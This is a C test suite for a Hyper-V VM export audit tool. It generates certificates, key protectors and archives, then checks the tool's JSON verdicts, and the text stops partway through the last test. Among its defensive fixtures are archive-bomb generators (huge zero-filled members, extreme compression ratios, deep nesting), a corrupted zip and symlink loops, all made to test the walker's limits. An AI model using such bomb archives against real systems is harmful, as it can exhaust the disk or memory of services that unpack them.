/*
 * test_audit.c - hvtpm audit end to end, and the archive walker under it.
 *
 * Every fixture is made at run time: VM configurations by the HyperVStorage
 * test writer, guest state files holding key protectors by the KP test
 * writer (with real certificate and guardian signatures), PFX files by
 * OpenSSL, archives by libarchive's writer (zip, tar, tar.gz, 7-Zip, and
 * archives inside archives).  Two RSA key pairs are made once in main()
 * and shared by every certificate.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <archive.h>
#include <archive_entry.h>
#include <json-c/json.h>
#include <openssl/bn.h>
#include <openssl/evp.h>
#include <openssl/pkcs12.h>
#include <openssl/x509.h>

#include "formats/kvtree.h"
#include "model/archive.h"
#include "support/hvs_writer.h"
#include "support/kp_writer.h"
#include "support/testutil.h"
#include "support/vhdx_writer.h"
#include "util/bytes.h"
#include "util/fileio.h"
#include "util/ossl.h"
#include "util/strbuf.h"
#include "util/text.h"

#define PASS "audit-test-export"
#define DAY 86400L
#define MIB (1024u * 1024u)
#define VM_CSV_FIELDS 14
#define CERT_CSV_FIELDS 14
#define DEV_GUEST_STATE "917bd8cb-3bb6-4124-9383-b7d21ac07f79"
#define DEV_VTPM "736e6aa9-a3f8-49c0-9550-a963214d259a"
#define DEV_SCSI "d422512d-2bf2-4752-809d-7b82b5fcb1b4"
#define SCSI_INSTANCE "4E3B1A1C-2A2F-4B51-9F0C-5D2C1E6A7B01"

static EVP_PKEY *keys[2];

/* ---- certificates, key protectors, configurations ------------------------------------- */

typedef struct {
	X509 *x;
	EVP_PKEY *k;
	uint8_t *der;
	size_t len;
} tcert;

typedef struct {
	tcert enc, sig;
} tguard;

static time_t day(const char *iso)
{
	time_t t;
	ck_assert(iso_parse(iso, &t));
	return t;
}

static tcert make_cert(const char *cn, EVP_PKEY *k, time_t nb, time_t na)
{
	static unsigned serial = 1;
	tcert c = { X509_new(), k, NULL, 0 };
	X509_set_version(c.x, 2);
	ASN1_INTEGER_set(X509_get_serialNumber(c.x), (long)serial++);
	ASN1_TIME_set(X509_getm_notBefore(c.x), nb);
	ASN1_TIME_set(X509_getm_notAfter(c.x), na);
	X509_NAME *n = X509_get_subject_name(c.x);
	X509_NAME_add_entry_by_txt(n, "CN", V_ASN1_UTF8STRING, (const unsigned char *)cn, -1, -1,
				   0);
	X509_set_issuer_name(c.x, n);
	X509_set_pubkey(c.x, k);
	ck_assert(X509_sign(c.x, k, EVP_sha256()) > 0);
	unsigned char *d = NULL;
	int l = i2d_X509(c.x, &d);
	ck_assert_int_gt(l, 0);
	c.der = malloc((size_t)l);
	memcpy(c.der, d, (size_t)l);
	c.len = (size_t)l;
	OPENSSL_free(d);
	return c;
}

static void guard_new(tguard *g, const char *host, time_t nb, time_t na)
{
	char cn[256];
	snprintf(cn, sizeof cn, "Shielded VM Encryption Certificate (UntrustedGuardian) (%s)", host);
	g->enc = make_cert(cn, keys[0], nb, na);
	snprintf(cn, sizeof cn, "Shielded VM Signing Certificate (UntrustedGuardian) (%s)", host);
	g->sig = make_cert(cn, keys[1], nb, na);
}

static void guard_free(tguard *g)
{
	X509_free(g->enc.x);
	X509_free(g->sig.x);
	free(g->enc.der);
	free(g->sig.der);
}

static kpw_cert as_kpw(const tcert *c)
{
	kpw_cert k = { c->k, c->x, c->der, c->len };
	return k;
}

/* Get-VMKeyProtector bytes for g, every signature real. */
static uint8_t *kp_blob(const tguard *g, size_t *len)
{
	kpw_cert ks = as_kpw(&g->sig);
	kpw_wrapping w;
	memset(&w, 0, sizeof w);
	w.id = 1;
	w.parent_id = 1;
	w.signing_der = g->sig.der;
	w.signing_len = g->sig.len;
	w.encryption_der = g->enc.der;
	w.encryption_len = g->enc.len;
	uint8_t *s1 = kpw_sign(&ks, "pkcs1-sha256", g->sig.der, g->sig.len, &w.signing_sig_len);
	uint8_t *s2 = kpw_sign(&ks, "pkcs1-sha256", g->enc.der, g->enc.len,
			       &w.encryption_sig_len);
	w.signing_sig = s1;
	w.encryption_sig = s2;
	kpw_doc d;
	memset(&d, 0, sizeof d);
	d.max_offline_unwraps = 0;
	d.guardian_wrapping_id = 1;
	d.w = &w;
	d.n = 1;
	size_t cl, xl;
	char *c14n = kpw_wrappings_c14n(&d, &cl);
	uint8_t *gs = kpw_sign(&ks, "pkcs1-sha256", c14n, cl, &d.guardian_sig_len);
	d.guardian_sig = gs;
	char *xml = kpw_xml(&d, &xl);
	uint8_t *framed = kpw_frame(xml, xl, len);
	free(xml);
	free(c14n);
	free(gs);
	free(s1);
	free(s2);
	return framed;
}

/* A configuration whose SCSI drive names D:\Hyper-V\<name>\Virtual Hard Disks\<name>.vhdx. */
static uint8_t *vmcx_bytes(const char *name, const char *id, size_t *len)
{
	kv_node *r = hvs_tree_new();
	char p[256], w[512];
	hvs_set_str(r, "configuration/properties/name", name);
	hvs_set_str(r, "configuration/properties/global_id", id);
	hvs_set_int(r, "configuration/properties/version", 0x0A00);
	hvs_set_int(r, "configuration/properties/subtype", 1);
	hvs_set_str(r, "configuration/manifest/vdev000/device", DEV_GUEST_STATE);
	hvs_set_str(r, "configuration/manifest/vdev000/instance", DEV_GUEST_STATE);
	hvs_set_str(r, "configuration/manifest/vdev000/name", "Microsoft Guest Runtime State");
	hvs_set_str(r, "configuration/manifest/vdev001/device", DEV_VTPM);
	hvs_set_str(r, "configuration/manifest/vdev001/instance", DEV_VTPM);
	hvs_set_str(r, "configuration/manifest/vdev001/name", "Microsoft Virtual TPM Device");
	snprintf(p, sizeof p, "configuration/_%s_/StateFilePath", DEV_GUEST_STATE);
	snprintf(w, sizeof w, "D:\\Hyper-V\\VMs\\Virtual Machines\\%s.vmgs", id);
	hvs_set_str(r, p, w);
	hvs_set_str(r, "configuration/manifest/vdev002/device", DEV_SCSI);
	hvs_set_str(r, "configuration/manifest/vdev002/instance", SCSI_INSTANCE);
	hvs_set_str(r, "configuration/manifest/vdev002/name", "Synthetic SCSI Controller");
	snprintf(p, sizeof p, "configuration/_%s_/controller0/drive0/type", SCSI_INSTANCE);
	hvs_set_str(r, p, "VHD");
	snprintf(p, sizeof p, "configuration/_%s_/controller0/drive0/pathname", SCSI_INSTANCE);
	snprintf(w, sizeof w, "D:\\Hyper-V\\%s\\Virtual Hard Disks\\%s.vhdx", name, name);
	hvs_set_str(r, p, w);
	hvs_set_bool(r, "configuration/security/settings/tpm_enabled", true);
	uint8_t *b = hvs_write(r, NULL, len);
	kv_free(r);
	ck_assert_ptr_nonnull(b);
	return b;
}

/* A guest state stand-in: a HyperVStorage repository with the KP at 0x10000. */
static uint8_t *vmgs_bytes(const tguard *g, size_t *len)
{
	size_t kplen, rlen;
	uint8_t *kp = kp_blob(g, &kplen);
	kv_node *r = hvs_tree_new();
	hvs_set_int(r, "configuration/properties/version", 0x0A00);
	hvs_set_bytes(r, "configuration/security/keys/key_protector", kp, kplen);
	uint8_t *repo = hvs_write(r, NULL, &rlen);
	kv_free(r);
	free(kp);
	ck_assert_ptr_nonnull(repo);
	*len = 0x10000 + rlen;
	uint8_t *img = calloc(1, *len);
	memcpy(img, "GUESTRTS", 8);
	memcpy(img + 0x10000, repo, rlen);
	free(repo);
	return img;
}

static uint8_t *pfx_bytes(const tcert *c, const char *pass, size_t *len)
{
	PKCS12 *p = PKCS12_create_ex((char *)pass, NULL, c->k, c->x, NULL, NID_aes_256_cbc,
				     NID_aes_256_cbc, 2000, 2000, 0, hv_ossl_ctx(), NULL);
	ck_assert_ptr_nonnull(p);
	unsigned char *d = NULL;
	int l = i2d_PKCS12(p, &d);
	PKCS12_free(p);
	ck_assert_int_gt(l, 0);
	uint8_t *out = malloc((size_t)l);
	memcpy(out, d, (size_t)l);
	OPENSSL_free(d);
	*len = (size_t)l;
	return out;
}

/* ---- file sets: written to a folder or packed into an archive ------------------------- */

typedef struct {
	char *name;
	uint8_t *data;
	size_t len;
	const char *link;   /* symbolic link target instead of data */
} tfile;

typedef struct {
	tfile v[32];
	size_t n;
} tfiles;

/* Takes data. */
static void files_add(tfiles *f, const char *name, uint8_t *data, size_t len)
{
	ck_assert_uint_lt(f->n, 32);
	f->v[f->n].name = strdup(name);
	f->v[f->n].data = data;
	f->v[f->n].len = len;
	f->v[f->n].link = NULL;
	f->n++;
}

static void files_vm(tfiles *f, const char *prefix, const char *name, const char *id,
		     const tguard *g)
{
	char p[512];
	size_t l;
	uint8_t *b = vmcx_bytes(name, id, &l);
	snprintf(p, sizeof p, "%s%sVirtual Machines/%s.vmcx", prefix, *prefix ? "/" : "", id);
	files_add(f, p, b, l);
	b = vmgs_bytes(g, &l);
	snprintf(p, sizeof p, "%s%sVirtual Machines/%s.vmgs", prefix, *prefix ? "/" : "", id);
	files_add(f, p, b, l);
}

static void files_pfx(tfiles *f, const char *name, const tcert *c, const char *pass)
{
	size_t l;
	uint8_t *b = pfx_bytes(c, pass, &l);
	files_add(f, name, b, l);
}

static void files_free(tfiles *f)
{
	for (size_t i = 0; i < f->n; i++) {
		free(f->v[i].name);
		free(f->v[i].data);
	}
	f->n = 0;
}

static void files_to_dir(tfiles *f, const char *dir)
{
	for (size_t i = 0; i < f->n; i++) {
		char *p = tu_join(dir, f->v[i].name);
		tu_write(p, f->v[i].data, f->v[i].len);
		free(p);
	}
	files_free(f);
}

typedef struct {
	uint8_t *data;
	size_t len, cap;
} membuf;

static la_ssize_t mem_write(struct archive *a, void *ctx, const void *buf, size_t n)
{
	membuf *m = ctx;
	(void)a;
	if (m->len + n > m->cap) {
		m->cap = (m->len + n) * 2;
		m->data = realloc(m->data, m->cap);
	}
	memcpy(m->data + m->len, buf, n);
	m->len += n;
	return (la_ssize_t)n;
}

static struct archive *writer_new(const char *kind, membuf *m)
{
	struct archive *a = archive_write_new();
	if (strcmp(kind, "zip") == 0) {
		archive_write_set_format_zip(a);
	} else if (strcmp(kind, "7z") == 0) {
		archive_write_set_format_7zip(a);
	} else {
		archive_write_set_format_pax_restricted(a);
		if (strcmp(kind, "tar.gz") == 0)
			archive_write_add_filter_gzip(a);
	}
	archive_write_set_bytes_in_last_block(a, 1);
	memset(m, 0, sizeof *m);
	ck_assert_int_eq(archive_write_open(a, m, NULL, mem_write, NULL), ARCHIVE_OK);
	return a;
}

static void writer_entry(struct archive *a, const char *name, const char *link, size_t len)
{
	struct archive_entry *e = archive_entry_new();
	archive_entry_set_pathname(e, name);
	archive_entry_set_filetype(e, link ? AE_IFLNK : AE_IFREG);
	if (link)
		archive_entry_set_symlink(e, link);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, link ? 0 : (la_int64_t)len);
	archive_entry_set_mtime(e, 1700000000, 0);
	ck_assert_int_eq(archive_write_header(a, e), ARCHIVE_OK);
	archive_entry_free(e);
}

/* Packs (and frees) the set; kind: zip, tar, tar.gz or 7z. */
static uint8_t *files_to_archive(tfiles *f, const char *kind, size_t *len)
{
	membuf m;
	struct archive *a = writer_new(kind, &m);
	for (size_t i = 0; i < f->n; i++) {
		writer_entry(a, f->v[i].name, f->v[i].link, f->v[i].len);
		if (!f->v[i].link)
			ck_assert_int_eq(archive_write_data(a, f->v[i].data, f->v[i].len),
					 (la_ssize_t)f->v[i].len);
	}
	ck_assert_int_eq(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	files_free(f);
	*len = m.len;
	return m.data;
}

/* An archive of members made of zeros, streamed (never held whole). */
static uint8_t *zeros_archive(const char *kind, size_t members, size_t each, size_t *len)
{
	static uint8_t zero[MIB];
	membuf m;
	struct archive *a = writer_new(kind, &m);
	for (size_t i = 0; i < members; i++) {
		char name[32];
		snprintf(name, sizeof name, "zeros-%zu.bin", i);
		writer_entry(a, name, NULL, each);
		for (size_t done = 0; done < each; done += sizeof zero) {
			size_t n = each - done < sizeof zero ? each - done : sizeof zero;
			ck_assert_int_eq(archive_write_data(a, zero, n), (la_ssize_t)n);
		}
	}
	ck_assert_int_eq(archive_write_close(a), ARCHIVE_OK);
	archive_write_free(a);
	*len = m.len;
	return m.data;
}

/* ---- running the audit --------------------------------------------------------------- */

static char *write_passwords(const char *dir)
{
	char *p = tu_join(dir, "passwords.txt");
	tu_write(p, PASS "\n", strlen(PASS) + 1);
	return p;
}

/* hvtpm audit --password-file PW --at AT [extra...] TREE, with an environment. */
static tu_run_result audit_run(char *const *env, const char *pw, const char *at,
			       const char *const *extra, const char *tree)
{
	char *argv[32];
	size_t n = 0;
	argv[n++] = (char *)tu_bin();
	argv[n++] = "audit";
	argv[n++] = "--password-file";
	argv[n++] = (char *)pw;
	argv[n++] = "--at";
	argv[n++] = (char *)at;
	for (size_t i = 0; extra && extra[i]; i++)
		argv[n++] = (char *)extra[i];
	argv[n++] = (char *)tree;
	argv[n] = NULL;
	return tu_run(argv, env, NULL);
}

static json_object *parse_json(const tu_run_result *r)
{
	json_object *j = json_tokener_parse(r->out);
	ck_assert_msg(j != NULL, "audit output is not JSON: %.200s / %.400s", r->out, r->err);
	return j;
}

static json_object *jget(json_object *o, const char *key)
{
	json_object *v = NULL;
	ck_assert_msg(json_object_object_get_ex(o, key, &v), "no key %s", key);
	return v;
}

static const char *jstr(json_object *o, const char *key)
{
	return json_object_get_string(jget(o, key));
}

static json_object *vm_named(json_object *doc, const char *name)
{
	json_object *vms = jget(doc, "vms");
	for (size_t i = 0; i < json_object_array_length(vms); i++) {
		json_object *v = json_object_array_get_idx(vms, i);
		const char *n = jstr(v, "name");
		if (n && strcmp(n, name) == 0)
			return v;
	}
	ck_abort_msg("no VM %s", name);
	return NULL;
}

static json_object *evidence_at(json_object *doc, const char *path)
{
	json_object *ev = jget(doc, "evidence");
	for (size_t i = 0; i < json_object_array_length(ev); i++) {
		json_object *f = json_object_array_get_idx(ev, i);
		if (strcmp(jstr(f, "path"), path) == 0)
			return f;
	}
	return NULL;
}

/* True when an "errors" entry names path (exactly) and its reason contains needle. */
static bool error_for(json_object *doc, const char *path, const char *needle)
{
	json_object *errs = jget(doc, "errors");
	for (size_t i = 0; i < json_object_array_length(errs); i++) {
		json_object *x = json_object_array_get_idx(errs, i);
		const char *p = jstr(x, "path"), *r = jstr(x, "reason");
		if (p && strcmp(p, path) == 0 && r && (!needle || strstr(r, needle)))
			return true;
	}
	return false;
}

static char *join3(const char *a, const char *b, const char *c)
{
	char *p = NULL;
	ck_assert_int_ge(asprintf(&p, "%s%s%s", a, b, c), 0);
	return p;
}

static void guid_n(char out[37], unsigned n)
{
	snprintf(out, 37, "%08X-1111-4222-8333-%012X", 0xA0D17000u + n, n);
}

/* ---- the scenarios ----------------------------------------------------------- */

START_TEST(vms_split_across_folders_and_archives)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV01", day("2020-01-01"), day("2030-01-01"));
	char id[5][37];
	for (unsigned i = 0; i < 5; i++)
		guid_n(id[i], i + 1);
	tfiles f = { .n = 0 };
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "hosts/h1/vm1", "vm1", id[0], &g);
	files_to_dir(&f, tree);
	static const char *const kinds[3] = { "zip", "tar.gz", "7z" };
	for (unsigned i = 0; i < 3; i++) {
		char name[16], file[64];
		snprintf(name, sizeof name, "vm%u", i + 2);
		files_vm(&f, name, name, id[i + 1], &g);
		if (i == 0) { /* vm2's disk travels with it: a real (empty) VHDX */
			char *vx = tu_join(d, "vm2.vhdx");
			vhdxw_spec vs = { .virtual_size = 8u << 20 };
			ck_assert(vhdxw_write(vx, &vs, NULL, 0, NULL));
			size_t dl;
			uint8_t *disk = tu_read(vx, &dl);
			files_add(&f, "vm2/Virtual Hard Disks/vm2.vhdx", disk, dl);
			free(vx);
		}
		size_t l;
		uint8_t *b = files_to_archive(&f, kinds[i], &l);
		snprintf(file, sizeof file, "exports/%s.%s", name, kinds[i]);
		files_add(&f, file, b, l);
		files_to_dir(&f, tree);
	}
	/* vm5 two levels down: nested.tar holds inner.zip holds the export */
	files_vm(&f, "vm5", "vm5", id[4], &g);
	size_t l;
	uint8_t *inner = files_to_archive(&f, "zip", &l);
	files_add(&f, "inner.zip", inner, l);
	uint8_t *outer = files_to_archive(&f, "tar", &l);
	files_add(&f, "nested.tar", outer, l);
	files_to_dir(&f, tree);

	static const char *const json[] = { "--format", "json", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-01-01", json, tree);
	ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	ck_assert_uint_eq(json_object_array_length(jget(doc, "vms")), 5);
	for (unsigned i = 0; i < 5; i++) {
		char name[8];
		snprintf(name, sizeof name, "vm%u", i + 1);
		json_object *v = vm_named(doc, name);
		ck_assert_str_eq(jstr(v, "verdict"), "restorable");
		ck_assert_str_eq(jstr(v, "id"), id[i]);
		/* the guest state file is found next to the configuration, in or out of archives */
		json_object *miss = jget(v, "missing");
		ck_assert_uint_eq(json_object_array_length(miss), i == 1 ? 0 : 1);
		if (i != 1)
			ck_assert_ptr_nonnull(strstr(json_object_get_string(
				json_object_array_get_idx(miss, 0)), "disk D:"));
	}
	/* members are named archive!member, and the config finds its guest state inside */
	json_object *v2 = vm_named(doc, "vm2");
	char *cfg = join3(tree, "/exports/vm2.zip!vm2/Virtual Machines/", id[1]);
	char *want = join3(cfg, ".vmcx", "");
	ck_assert_str_eq(json_object_get_string(json_object_array_get_idx(jget(v2, "config_files"),
									  0)), want);
	free(want);
	want = join3(cfg, ".vmgs", "");
	json_object *kp = json_object_array_get_idx(jget(v2, "key_protectors"), 0);
	ck_assert_str_eq(jstr(kp, "source"), want);
	free(want);
	free(cfg);
	want = join3(tree, "/exports/vm2.zip!vm2/Virtual Hard Disks/vm2.vhdx", "");
	ck_assert_str_eq(jstr(json_object_array_get_idx(jget(v2, "disks"), 0), "path"), want);
	ck_assert_str_eq(jstr(evidence_at(doc, want), "status"), "ok");
	free(want);
	json_object *v5 = vm_named(doc, "vm5");
	ck_assert_ptr_nonnull(strstr(json_object_get_string(json_object_array_get_idx(
					     jget(v5, "config_files"), 0)),
				     "/nested.tar!inner.zip!vm5/Virtual Machines/"));
	static const char *const arcs[] = { "/exports/vm2.zip", "/exports/vm3.tar.gz",
					    "/exports/vm4.7z", "/nested.tar",
					    "/nested.tar!inner.zip" };
	static const char *const fmts[] = { "zip archive", "tar (gzip) archive",
					    "7-Zip archive", "tar archive", "zip archive" };
	for (size_t i = 0; i < 5; i++) {
		char *p = join3(tree, arcs[i], "");
		json_object *e = evidence_at(doc, p);
		ck_assert_msg(e != NULL, "no evidence entry %s", p);
		ck_assert_str_eq(jstr(e, "kind"), "archive");
		ck_assert_str_eq(jstr(e, "status"), "ok");
		ck_assert_ptr_nonnull(strstr(jstr(e, "what"), fmts[i]));
		ck_assert_uint_eq(strlen(jstr(e, "sha256")), 64);
		free(p);
	}
	/* one index entry per certificate: the five VMs need it, the PFX holds it */
	json_object *certs = jget(doc, "certificates");
	ck_assert_uint_eq(json_object_array_length(certs), 2);
	for (size_t i = 0; i < 2; i++) {
		json_object *c = json_object_array_get_idx(certs, i);
		ck_assert_uint_eq(json_object_array_length(jget(c, "vms")), 5);
		json_object *held = jget(c, "held_with_private_key");
		ck_assert_uint_eq(json_object_array_length(held), 1);
		const char *role = jstr(c, "role");
		char *p = join3(tree, strcmp(role, "encryption") == 0 ? "/pfx/enc.pfx" : "/pfx/sig.pfx",
				"");
		ck_assert_str_eq(jstr(json_object_array_get_idx(held, 0), "path"), p);
		free(p);
	}
	ck_assert_int_eq(json_object_get_int(jget(jget(jget(doc, "summary"), "verdicts"),
						  "restorable")), 5);
	json_object_put(doc);
	tu_run_free(&r);
	guard_free(&g);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

START_TEST(archive_bombs_are_refused_and_the_audit_goes_on)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV02", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 77);
	size_t l;
	/* 200 MiB of zeros in one member: over the member cap */
	uint8_t *b = zeros_archive("zip", 1, 200 * MIB, &l);
	ck_assert_uint_lt(l, 2 * MIB);
	tfiles f = { .n = 0 };
	files_add(&f, "a-bomb.zip", b, l);
	/* members under the cap, but 3 x 40 MiB from a few hundred KiB: over 100:1 */
	b = zeros_archive("tar.gz", 3, 40 * MIB, &l);
	files_add(&f, "b-ratio.tar.gz", b, l);
	files_to_dir(&f, tree);
	/* an archive three levels deep: opened down to the second level only */
	tfiles in = { .n = 0 };
	files_add(&in, "deep.txt", (uint8_t *)strdup("innermost"), 9);
	b = files_to_archive(&in, "tar", &l);
	files_add(&in, "level2.tar", b, l);
	b = files_to_archive(&in, "zip", &l);
	files_add(&in, "level1.zip", b, l);
	b = files_to_archive(&in, "tar", &l);
	files_add(&in, "c-deep.tar", b, l);
	files_pfx(&in, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&in, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&in, "vm", "survivor", id, &g);
	files_to_dir(&in, tree);

	static const char *const json[] = { "--format", "json", NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-01-01", json, tree);
	ck_assert_msg(r.status == 4, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	/* the VM after the bombs in walk order is still audited */
	ck_assert_str_eq(jstr(vm_named(doc, "survivor"), "verdict"), "restorable");
	char *m = join3(tree, "/a-bomb.zip!zeros-0.bin", "");
	json_object *e = evidence_at(doc, m);
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(jstr(e, "status"), hv_err_code(HV_ERR_LIMIT));
	ck_assert(error_for(doc, m, "cap for members read into memory"));
	ck_assert_int_eq(json_object_get_int64(jget(e, "size")), 200 * MIB);
	free(m);
	char *ratio = join3(tree, "/b-ratio.tar.gz", "");
	e = evidence_at(doc, ratio);
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(jstr(e, "status"), hv_err_code(HV_ERR_LIMIT));
	ck_assert_ptr_nonnull(strstr(jstr(e, "error"), "archive bomb"));
	/* refused at the member that crossed the line: the first one was read */
	char *z0 = join3(ratio, "!zeros-0.bin", ""), *z2 = join3(ratio, "!zeros-2.bin", "");
	ck_assert_ptr_nonnull(evidence_at(doc, z0));
	ck_assert_str_eq(jstr(evidence_at(doc, z0), "status"), "ok");
	ck_assert_ptr_null(evidence_at(doc, z2));
	free(z0);
	free(z2);
	free(ratio);
	char *deep = join3(tree, "/c-deep.tar!level1.zip!level2.tar", "");
	e = evidence_at(doc, deep);
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(jstr(e, "status"), hv_err_code(HV_ERR_LIMIT));
	ck_assert(error_for(doc, deep, "nested deeper than one level"));
	free(deep);
	json_object_put(doc);
	tu_run_free(&r);
	guard_free(&g);
	tu_rmtree(d);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/* Copies a tree's files into place and makes it readable by anyone (for the nobody run). */
static void open_up(const char *dir)
{
	ck_assert_int_eq(tu_sh("chmod -R a+rX '%s'", dir), 0);
}

START_TEST(unreadable_files_are_reported_and_skipped)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV03", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 3);
	tfiles f = { .n = 0 };
	/* a zip whose member's compressed bytes are damaged: unreadable for root too */
	char text[8192];
	for (size_t i = 0; i < sizeof text; i++)
		text[i] = (char)('a' + (i * 7 + i / 13) % 26);
	files_add(&f, "notes.txt", (uint8_t *)strndup(text, sizeof text), sizeof text);
	size_t l;
	uint8_t *zip = files_to_archive(&f, "zip", &l);
	uint16_t nl = ld16le(zip + 26), xl = ld16le(zip + 28);
	size_t data = 30u + nl + xl;
	ck_assert_uint_lt(data + 40, l);
	for (size_t i = 8; i < 40; i++)
		zip[data + i] ^= 0x5A;
	files_add(&f, "a-damaged.zip", zip, l);
	files_add(&f, "b-locked.bin", (uint8_t *)strdup("evidence nobody may read"), 24);
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "vm", "after-the-errors", id, &g);
	files_to_dir(&f, tree);
	open_up(d);
	/*
	 * chmod 000 stops nobody but root, and the suite runs as root in CI: as
	 * root the audit is run as user nobody (setpriv), for whom the file is
	 * honestly unreadable.  Without setpriv only the damaged member is checked.
	 */
	char *locked = tu_join(tree, "b-locked.bin");
	ck_assert_int_eq(chmod(locked, 0), 0);
	bool as_root = geteuid() == 0;
	bool can_drop = !as_root || tu_have("setpriv");
	char *argv[16];
	size_t n = 0;
	if (as_root && can_drop) {
		argv[n++] = "setpriv";
		argv[n++] = "--reuid=65534";
		argv[n++] = "--regid=65534";
		argv[n++] = "--clear-groups";
	}
	argv[n++] = (char *)tu_bin();
	argv[n++] = "audit";
	argv[n++] = "--format";
	argv[n++] = "json";
	argv[n++] = "--password-file";
	argv[n++] = pw;
	argv[n++] = "--at";
	argv[n++] = "2026-01-01";
	argv[n++] = tree;
	argv[n] = NULL;
	tu_run_result r = tu_run(argv, NULL, NULL);
	ck_assert_msg(r.status == 4, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	ck_assert_str_eq(jstr(vm_named(doc, "after-the-errors"), "verdict"), "restorable");
	char *member = join3(tree, "/a-damaged.zip!notes.txt", "");
	json_object *e = evidence_at(doc, member);
	ck_assert_ptr_nonnull(e);
	ck_assert_str_eq(jstr(e, "status"), hv_err_code(HV_ERR_CORRUPT));
	ck_assert(error_for(doc, member, NULL));
	char *zip_path = join3(tree, "/a-damaged.zip", "");
	ck_assert_str_eq(jstr(evidence_at(doc, zip_path), "status"), hv_err_code(HV_ERR_CORRUPT));
	free(zip_path);
	if (can_drop) {
		e = evidence_at(doc, locked);
		ck_assert_ptr_nonnull(e);
		ck_assert_str_eq(jstr(e, "status"), hv_err_code(HV_ERR_IO));
		ck_assert(error_for(doc, locked, "cannot open"));
		/* the member, the archive it stopped, and the locked file */
		ck_assert_int_eq(json_object_get_int(jget(jget(doc, "summary"), "files_with_errors")),
				 3);
	} else {
		tu_skip_line(__func__, "running as root without setpriv: chmod 000 not checked");
	}
	json_object_put(doc);
	tu_run_free(&r);
	guard_free(&g);
	tu_rmtree(d);
	free(member);
	free(locked);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

START_TEST(symlink_loops_end_and_count_nothing_twice)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV04", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 4);
	tfiles f = { .n = 0 };
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "vm", "looped", id, &g);
	files_to_dir(&f, tree);
	char *loop = tu_join(tree, "vm/back-to-top"), *a = tu_join(tree, "a"),
	     *b = tu_join(tree, "b");
	ck_assert_int_eq(symlink("../../tree", loop), 0);
	ck_assert_int_eq(symlink("b", a), 0); /* a -> b -> a */
	ck_assert_int_eq(symlink("a", b), 0);
	static const char *const plain[] = { "--format", "json", NULL };
	static const char *const follow[] = { "--format", "json", "--follow-symlinks", NULL };
	const char *const *modes[2] = { plain, follow };
	for (int i = 0; i < 2; i++) {
		tu_run_result r = audit_run(NULL, pw, "2026-01-01", modes[i], tree);
		ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
		json_object *doc = parse_json(&r);
		ck_assert_uint_eq(json_object_array_length(jget(doc, "vms")), 1);
		json_object *v = vm_named(doc, "looped");
		ck_assert_str_eq(jstr(v, "verdict"), "restorable");
		ck_assert_uint_eq(json_object_array_length(jget(v, "config_files")), 1);
		if (i == 0) {
			ck_assert(error_for(doc, loop, "symbolic link not followed"));
		} else {
			ck_assert(error_for(doc, loop, "directory already walked"));
			ck_assert(error_for(doc, a, "symbolic link loop"));
		}
		/* four files read, three links accounted for as skipped */
		ck_assert_uint_eq(json_object_array_length(jget(doc, "evidence")), 7);
		json_object *cls = jget(jget(doc, "summary"), "classes");
		ck_assert_int_eq(json_object_get_int(jget(cls, "used")), 4);
		ck_assert_int_eq(json_object_get_int(jget(cls, "skipped")), 3);
		json_object_put(doc);
		tu_run_free(&r);
	}
	guard_free(&g);
	tu_rmtree(d);
	free(loop);
	free(a);
	free(b);
	free(tree);
	free(pw);
	free(d);
}
END_TEST

/*
 * A file named twice, and named and also inside a directory named, is read
 * once, where it is first met; a path is never dropped for another path to
 * the same file (a hard link is its own piece of evidence).
 */
START_TEST(a_path_named_twice_is_read_once)
{
	char *d = tu_mkdtemp(), *pw = write_passwords(d);
	char *tree = tu_join(d, "tree");
	tguard g;
	guard_new(&g, "HV05", day("2020-01-01"), day("2030-01-01"));
	char id[37];
	guid_n(id, 5);
	tfiles f = { .n = 0 };
	files_pfx(&f, "pfx/enc.pfx", &g.enc, PASS);
	files_pfx(&f, "pfx/sig.pfx", &g.sig, PASS);
	files_vm(&f, "vm", "named-twice", id, &g);
	files_to_dir(&f, tree);
	char *enc = tu_join(tree, "pfx/enc.pfx"), *hard = tu_join(tree, "enc-hard-link.pfx");
	ck_assert_int_eq(link(enc, hard), 0);
	const char *const extra[] = { "--format", "json", enc, enc, NULL };
	tu_run_result r = audit_run(NULL, pw, "2026-01-01", extra, tree);
	ck_assert_msg(r.status == 0, "exit %d: %s", r.status, r.err);
	json_object *doc = parse_json(&r);
	json_object *ev = jget(doc, "evidence");
